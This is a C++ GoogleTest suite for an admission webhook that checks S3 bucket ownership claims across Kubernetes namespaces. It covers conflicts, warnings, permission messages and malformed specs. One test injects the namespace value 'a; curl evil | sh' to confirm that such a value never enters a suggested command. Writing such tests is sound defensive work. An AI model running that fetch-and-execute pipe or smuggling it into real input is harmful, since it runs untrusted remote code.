// POST /validate-check: what is asked before a deployment, and what is refused.
#include "policies/ownership_check.h"

#include <gtest/gtest.h>

#include <memory>
#include <string>
#include <vector>

#include "tests/support/admission_fixture.h"

namespace truce {
namespace ownership_check_test {

Sent CheckOf(std::string_view ns, std::string spec) {
  Sent sent;
  sent.group = "truce.dev";
  sent.version = "v1alpha1";
  sent.kind = "OwnershipCheck";
  sent.ns = ns;
  sent.name = "before";
  sent.uid = "uid-check-" + std::string(ns);
  sent.review = "review-check";
  sent.spec = std::move(spec);
  return sent;
}

std::string BucketNamed(std::string_view name) {
  return R"({"declarations":[{"type":"s3/Bucket","name":")" + std::string(name) + R"("}]})";
}

std::string ManifestOf(std::string_view name, std::string_view bucket) {
  return R"({"apiVersion":"s3.aws.upbound.io/v1beta1","kind":"Bucket","metadata":{"name":")" +
         std::string(name) + R"(","annotations":{"crossplane.io/external-name":")" +
         std::string(bucket) + R"("}},"spec":{"forProvider":{"region":"us-west-2"}}})";
}

class OwnershipCheckTest : public AdmissionFixture {
 protected:
  // `name` maps `objectStorage.*.name` of values to buckets.
  void AddValuesRule(const std::string& name, std::vector<std::string> namespaces) {
    ChangePolicy([&](AdmissionPolicy& policy) {
      MappedResource bucket;
      bucket.type = "s3/Bucket";
      const auto path = [](std::string_view text) {
        return FieldPath::Parse(text, FieldPath::Root::kValues).value();
      };
      bucket.parts["name"] = {path("objectStorage.*.name"), {}};
      MappingRule rule{{}, path("appName"), {bucket}, std::move(namespaces)};
      policy.values.insert_or_assign(name, std::move(rule));
    });
  }
};

TEST_F(OwnershipCheckTest, WhatIsFreeMayBeDeclaredAndStaysFree) {
  const Answered answer = Check(CheckOf("team-a", BucketNamed("reports")));
  EXPECT_TRUE(answer.allowed) << answer.message;
  EXPECT_TRUE(Contents().owners.empty());
  ASSERT_EQ(admitted_checks_.size(), 1U);
  EXPECT_EQ(admitted_checks_[0].text, "uid-check-team-a");
  EXPECT_TRUE(Send(Claim("team-b", "files", "reports", "reporting")).allowed);
}

// I8: the API server let the user create a check in its own namespace, not in those it asks about.
TEST_F(OwnershipCheckTest, ForOtherNamespacesTheUserMustSpeak) {
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  ChangePolicy([](AdmissionPolicy& policy) { policy.disclosure = Disclosure::kTaken; });
  const auto check = [&](const std::string& ns) {
    return CheckOf("team-b", R"({"manifests":[{"apiVersion":"platform.example.org/v1alpha1",)"
                             R"("kind":"ObjectStorage","metadata":{"name":"copy","namespace":")" +
                                 ns + R"("},"spec":{"parameters":{"name":"reports"}}}]})");
  };
  const Answered own = Check(check("team-b"));
  EXPECT_FALSE(own.allowed);
  EXPECT_EQ(own.message,
            "S3 bucket \"reports\" is already taken.\nChoose another name, for example "
            "\"reports-team-b\", or ask your platform team about it. [duplicate-ownership]");
  EXPECT_TRUE(asked_for_.empty()) << "the API server has answered that";
  speaks_ = false;
  const Answered stranger = Check(check("team-a"));
  EXPECT_FALSE(stranger.allowed);
  EXPECT_EQ(stranger.message,
            "spec.manifests: ann does not speak for namespace team-a; leave out what belongs "
            "there, or have it granted: kubectl create rolebinding NAME --clusterrole=edit "
            "--user=USER -n team-a, or any role with verb create on checks.truce.dev");
  EXPECT_EQ(stranger.message.find("files"), std::string::npos) << stranger.message;
  EXPECT_EQ(stranger.message.find("reporting"), std::string::npos) << stranger.message;
  EXPECT_EQ(asked_for_, std::vector<std::string>{"ann team-a"});
  EXPECT_NE(Check(check("a; curl evil | sh")).message.find(" -n NAMESPACE, "), std::string::npos)
      << "what is no word for a shell stands in no command";
  speaks_ = Error{ErrorCode::kUnavailable, "the API server did not answer"};
  EXPECT_EQ(Check(check("team-a")).status, 503);
  speaks_ = true;
  const Answered friendly = Check(check("team-a"));
  EXPECT_FALSE(friendly.allowed);
  EXPECT_EQ(OnlyFinding().cause,
            "S3 bucket \"reports\" is owned by service \"reporting\", declared by ObjectStorage "
            "team-a/files.");
}

TEST_F(OwnershipCheckTest, WhatAnotherPartyHasIsRefusedWithTheFullText) {
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  const Answered answer = Check(CheckOf("team-b", BucketNamed("reports")));
  EXPECT_FALSE(answer.allowed);
  EXPECT_EQ(answer.code, 403);
  EXPECT_EQ(OnlyFinding().cause,
            "S3 bucket \"reports\" is owned by service \"reporting\", declared by ObjectStorage "
            "team-a/files.");
  EXPECT_EQ(OnlyFinding().remedy,
            "Choose another name, for example \"reports-team-b\". To take it over, ask service "
            "\"reporting\" to run: `truce transfer s3/Bucket/reports --to team-b --reason '…'`");
  EXPECT_TRUE(admitted_checks_.empty());
  EXPECT_EQ(sink_.last().verdict, Verdict::kDenied);
  // Of the same party.
  EXPECT_TRUE(Check(CheckOf("team-a", BucketNamed("reports"))).allowed);
}

TEST_F(OwnershipCheckTest, ARecordedConflictIsWarnedAndNotRefused) {
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  ChangePolicy([](AdmissionPolicy& policy) { policy.modes.global = Mode::kWarn; });
  ASSERT_TRUE(Send(Claim("team-b", "copies", "reports", "copying")).allowed);
  ChangePolicy([](AdmissionPolicy& policy) { policy.modes.global = Mode::kEnforce; });
  const Answered answer = Check(CheckOf("team-b", BucketNamed("reports")));
  EXPECT_TRUE(answer.allowed) << answer.message;
  ASSERT_EQ(answer.warnings.size(), 1U);
  EXPECT_EQ(answer.warnings[0],
            "truce: S3 bucket reports belongs to ObjectStorage team-a/files (reporting); both will "
            "fight over it");
  EXPECT_FALSE(Check(CheckOf("team-c", BucketNamed("reports"))).allowed);
}

TEST_F(OwnershipCheckTest, WhatExistsKeepsItsName) {
  ASSERT_TRUE(Send(Claim("team-a", "files", "my-old-name", "reporting")).allowed);
  ASSERT_TRUE(Send(Bucket("old", "another-old-name")).allowed);
  ChangePolicy([](AdmissionPolicy& policy) {
    auto names = std::make_shared<NamePolicy>();
    names->aws = std::make_shared<const AwsNames>(
        AwsNames::Compile(*policy.catalogue, BuiltInAwsNames()).value());
    names->convention.emplace(NamingConvention::Compile({}, *policy.catalogue, names->aws).value());
    policy.names = std::move(names);
    auto& entries = policy.modes.rules[static_cast<std::size_t>(Rule::kNamingConvention)];
    entries = {{Mode::kEnforce, {}, {}, {}, "truce.yaml:1"}};
  });
  const std::string old =
      R"({"service":"reporting","declarations":[{"type":"s3/Bucket","name":"my-old-name"}],)"
      R"("manifests":[)" +
      ManifestOf("old", "another-old-name") + "]}";
  const Answered kept = Check(CheckOf("team-a", old));
  EXPECT_TRUE(kept.allowed) << kept.message;
  EXPECT_EQ(kept.warnings.size(), 2U);
  EXPECT_FALSE(Check(CheckOf("team-a", BucketNamed("my-new-name"))).allowed);
  const std::string made = R"({"manifests":[)" + ManifestOf("new", "my-new-name") + "]}";
  EXPECT_FALSE(Check(CheckOf("team-a", made)).allowed);
}

TEST_F(OwnershipCheckTest, WhatExistsKeepsItsAttachments) {
  Sent bucket = Bucket("owned", "owned");
  bucket.group = "s3.aws.m.upbound.io";
  bucket.ns = "team-a";
  ASSERT_TRUE(Send(bucket).allowed);
  const auto policy = [](const std::string& name) {
    Sent sent = Managed("s3", "BucketPolicy", name,
                        R"({"region":"us-west-2","bucket":"owned","policy":"{}"})");
    sent.group = "s3.aws.m.upbound.io";
    sent.ns = "team-b";
    return sent;
  };
  const auto asked = [&](const std::string& name) {
    return Check(CheckOf("team-b", R"({"manifests":[{"apiVersion":"s3.aws.m.upbound.io/v1beta1",)"
                                   R"("kind":"BucketPolicy","metadata":{"name":")" +
                                       name + R"("},"spec":)" + policy(name).spec + "}]}"));
  };
  EXPECT_FALSE(asked("open").allowed);
  ChangePolicy([](AdmissionPolicy& present) { present.modes.global = Mode::kWarn; });
  ASSERT_TRUE(Send(policy("open")).allowed);
  ChangePolicy([](AdmissionPolicy& present) { present.modes.global = Mode::kEnforce; });
  const Answered kept = asked("open");
  EXPECT_TRUE(kept.allowed) << kept.message;
}

TEST_F(OwnershipCheckTest, BeforeEnforceItIsWarned) {
  ChangePolicy([](AdmissionPolicy& policy) { policy.modes.global = Mode::kWarn; });
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  const Answered answer = Check(CheckOf("team-b", BucketNamed("reports")));
  EXPECT_TRUE(answer.allowed);
  EXPECT_EQ(answer.warnings.size(), 1U);
  const std::string twice =
      R"({"declarations":[{"type":"s3/Bucket","name":"x"},{"type":"s3/Bucket","name":"x"}]})";
  EXPECT_TRUE(Check(CheckOf("team-b", twice)).allowed);
}

TEST_F(OwnershipCheckTest, EverythingIsNamedAtOnce) {
  ASSERT_TRUE(Send(Claim("team-a", "one", "first", "reporting")).allowed);
  ASSERT_TRUE(Send(Claim("team-a", "two", "second", "reporting")).allowed);
  const std::string both =
      R"({"declarations":[{"type":"s3/Bucket","name":"first"},{"type":"s3/Bucket","name":"second"}]})";
  const Answered answer = Check(CheckOf("team-b", both));
  EXPECT_FALSE(answer.allowed);
  EXPECT_EQ(answer.message,
            "2 resources of this object are refused: S3 bucket \"first\", S3 bucket "
            "\"second\".\nS3 bucket \"first\" is owned by service \"reporting\", declared by "
            "ObjectStorage team-a/one.\nChoose another name, for example \"first-team-b\". To take "
            "it over, ask service \"reporting\" to run: `truce transfer s3/Bucket/first --to "
            "team-b --reason '…'` [duplicate-ownership]\nS3 bucket \"second\" is owned by service "
            "\"reporting\", declared by ObjectStorage team-a/two.\nChoose another name, for "
            "example \"second-team-b\". To take it over, ask service \"reporting\" to run: `truce "
            "transfer s3/Bucket/second --to team-b --reason '…'` [duplicate-ownership]");
}

TEST_F(OwnershipCheckTest, ManifestsAreJudgedAsTheirAdmissionWouldBe) {
  ASSERT_TRUE(Send(Bucket("reports", "reports-prod")).allowed);
  // Of the very object, which is cluster-scoped and so belongs to no namespace.
  const auto check = [&](const std::string& manifests) {
    return Check(CheckOf("team-a", R"({"manifests":[)" + manifests + "]}"));
  };
  EXPECT_TRUE(check(ManifestOf("reports", "reports-prod")).allowed);
  const Answered other = check(ManifestOf("copies", "reports-prod"));
  EXPECT_FALSE(other.allowed);
  EXPECT_EQ(Found(), "duplicate-ownership enforce");
  // Two of one check, and what declares nothing.
  const Answered twice = check(ManifestOf("a", "free") + "," + ManifestOf("b", "free"));
  EXPECT_FALSE(twice.allowed);
  EXPECT_EQ(twice.message,
            "s3/Bucket \"free\" is declared by Bucket b and Bucket a of this check\nDeclare it "
            "once. [duplicate-ownership]");
  EXPECT_TRUE(check(R"({"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"x"}})").allowed);
}

TEST_F(OwnershipCheckTest, AManifestWithoutNamespaceIsInTheChecks) {
  const std::string claim =
      R"({"manifests":[{"apiVersion":"platform.example.org/v1alpha1","kind":"ObjectStorage",)"
      R"("metadata":{"name":"files"},"spec":{"parameters":{"name":"reports"}}}]})";
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  EXPECT_TRUE(Check(CheckOf("team-a", claim)).allowed);
  EXPECT_FALSE(Check(CheckOf("team-b", claim)).allowed);
}

TEST_F(OwnershipCheckTest, ValuesAreReadByTheNamedRule) {
  AddValuesRule("charts", {});
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  const auto values = [](std::string_view name) {
    return R"({"values":{"appName":"copying","objectStorage":{"x":{"name":")" + std::string(name) +
           R"("}}},"mapping":"charts"})";
  };
  EXPECT_FALSE(Check(CheckOf("team-b", values("reports"))).allowed);
  EXPECT_TRUE(Check(CheckOf("team-b", values("copies"))).allowed);
  const std::string twice =
      R"({"values":{"objectStorage":{"x":{"name":"q"},"y":{"name":"q"}}},"mapping":"charts"})";
  const Answered answer = Check(CheckOf("team-b", twice));
  EXPECT_FALSE(answer.allowed);
  EXPECT_EQ(
      answer.message,
      "s3/Bucket \"q\" is declared twice in this check\nDeclare it once. [duplicate-ownership]");
}

TEST_F(OwnershipCheckTest, ARuleHoldsInItsNamespaces) {
  AddValuesRule("charts", {"team-a"});
  const std::string spec = R"({"values":{"objectStorage":{"x":{"name":"q"}}},"mapping":"charts"})";
  EXPECT_TRUE(Check(CheckOf("team-a", spec)).allowed);
  const Answered answer = Check(CheckOf("team-b", spec));
  EXPECT_FALSE(answer.allowed);
  EXPECT_EQ(answer.message,
            "spec.mapping: DeclarationMapping 'charts' does not hold in namespace 'team-b'; name "
            "another one");
}

TEST_F(OwnershipCheckTest, WhatCannotBeReadIsRefusedWithPathAndRemedy) {
  struct Row {
    const char* spec;
    const char* message;
  };
  const Row rows[] = {
      {R"({"declarations":[{"type":"s3/Bukcet","name":"x"}]})",
       "spec.declarations[0].type: no type 's3/Bukcet'; did you mean 's3/Bucket'?"},
      {R"({"declarations":[{"type":"s3/Bucket"}]})",
       "spec.declarations[0]: must have exactly one of name and parts"},
      {R"({"declarations":[{"type":"eks/NodeGroup","name":"x"}]})",
       "spec.declarations[0].name: does not name a resource of type eks/NodeGroup; write parts: "
       "clusterName, name"},
      {R"({"declarations":[{"type":"s3/Bucket","parts":{"bucket":"x"}}]})",
       "spec.declarations[0].parts: type s3/Bucket has no part 'bucket'; its parts are name"},
      {R"({"declarations":[{"type":"s3/Bucket","name":"x","intent":"owns"}]})",
       "spec.declarations[0].intent: must be one of observes, manages, deletes"},
      {R"({"values":{"a":1}})",
       "spec.values: no mapping rule says what values declare; name one in spec.mapping"},
      {R"({"values":{"a":1},"mapping":"none"})",
       "spec.mapping: no DeclarationMapping 'none' with chartValues is in force"},
      {R"({"manifests":[{"kind":"Bucket"}]})",
       "spec.manifests[0]: has no apiVersion, kind or metadata.name; write a whole object"},
      {R"({"manifests":[{"apiVersion":"truce.dev/v1alpha1","kind":"OwnershipCheck",)"
       R"("metadata":{"name":"x"}}]})",
       "spec.manifests[0]: is an OwnershipCheck itself; leave it out"},
  };
  for (const Row& row : rows) {
    const Answered answer = Check(CheckOf("team-a", row.spec));
    EXPECT_FALSE(answer.allowed) << row.spec;
    EXPECT_EQ(answer.message, row.message);
  }
}

TEST_F(OwnershipCheckTest, WhatCannotBeToldIsUnknown) {
  service_.SetReady(false);
  EXPECT_EQ(Check(CheckOf("team-a", BucketNamed("x"))).status, 503);
  service_.SetReady(true);
  store_.FailNextRead({ErrorCode::kUnavailable, "not now"});
  EXPECT_EQ(Check(CheckOf("team-a", BucketNamed("x"))).status, 503);
  ChangePolicy([](AdmissionPolicy& policy) { policy.unlisted["s3/Bucket"] = false; });
  EXPECT_EQ(Check(CheckOf("team-a", BucketNamed("x"))).status, 503);
  EXPECT_TRUE(admitted_checks_.empty());
}

TEST_F(OwnershipCheckTest, ADryRunIsNotRemembered) {
  Sent sent = CheckOf("team-a", BucketNamed("x"));
  sent.dry_run = true;
  EXPECT_TRUE(Check(sent).allowed);
  EXPECT_TRUE(admitted_checks_.empty());
}

TEST_F(OwnershipCheckTest, OnlyCreationsAreAskedAbout) {
  ASSERT_TRUE(Send(Claim("team-a", "files", "reports", "reporting")).allowed);
  Sent sent = CheckOf("team-b", BucketNamed("reports"));
  for (const char* operation : {"UPDATE", "DELETE"}) {
    sent.operation = operation;
    sent.old_metadata = sent.metadata;
    EXPECT_TRUE(Check(sent).allowed) << operation;
  }
  EXPECT_TRUE(Check(Claim("team-b", "copies", "reports", "copying")).allowed);
}

TEST_F(OwnershipCheckTest, OtherOwnKindsAreRefusedWhenTheyCannotTakeEffect) {
  own_objects_ = Error{ErrorCode::kInvalidArgument, "spec.declares[0].type: no type 'x/y'"};
  Sent sent = CheckOf("", R"({"a":1})");
  sent.kind = "DeclarationMapping";
  const Answered created = Check(sent);
  EXPECT_FALSE(created.allowed);
  EXPECT_EQ(created.code, 403);
  EXPECT_EQ(created.message, "spec.declares[0].type: no type 'x/y'");
  // What was there before may be labelled, and go.
  sent.operation = "UPDATE";
  sent.metadata = R"(,"labels":{"a":"b"})";
  EXPECT_TRUE(Check(sent).allowed);
  sent.old_spec = R"({"a":2})";
  EXPECT_FALSE(Check(sent).allowed);
  sent.metadata = R"(,"deletionTimestamp":"2026-11-21T08:00:00Z")";
  EXPECT_TRUE(Check(sent).allowed);
  sent.operation = "DELETE";
  EXPECT_TRUE(Check(sent).allowed);
  own_objects_ = {};
  sent.operation = "CREATE";
  EXPECT_TRUE(Check(sent).allowed);
}

}  // namespace ownership_check_test
}  // namespace truce
